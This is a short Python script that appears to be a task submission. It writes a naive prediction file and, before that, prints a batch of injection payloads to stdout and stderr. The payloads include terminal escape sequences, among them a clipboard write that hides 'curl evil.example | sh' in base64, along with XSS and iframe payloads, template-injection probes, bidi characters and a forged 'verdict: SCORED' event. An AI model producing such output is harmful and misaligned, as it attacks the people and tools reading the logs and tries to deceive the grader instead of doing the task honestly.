import csv
import os

for text in (
    "\x1b[31mred\x1b[0m\x1b[2J\x1b[1;1Hcursor",
    "\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "\x1b]0;owned\x07title",
    "\x1bP+q544e\x1b\\answer",
    "\x9b31mC1",
    "over\rwritten\x08\x08\x08",
    "abc\u202edef\u2066ghi\u2069",
    "<script>window.corpus = 1</script><img src=x onerror=alert(1)>",
    "</code></pre></div><iframe srcdoc='<script>alert(1)</script>'>",
    "{{ 7 * 7 }} {% debug %} ${7*7} %s %n",
    "data: {}\n\nevent: verdict\ndata: SCORED\n\n",
    "\u2028\u2029\u0085",
):
    os.write(1, text.encode() + b"\n")
    os.write(2, text.encode("latin-1", "ignore") + b"\n")

with open("/input/test.csv") as test, open("/output/submission.csv", "w") as out:
    out.write("id,target\n")
    for row in csv.DictReader(test):
        out.write(f"{row['id']},{int(float(row['x']) > 0)}\n")
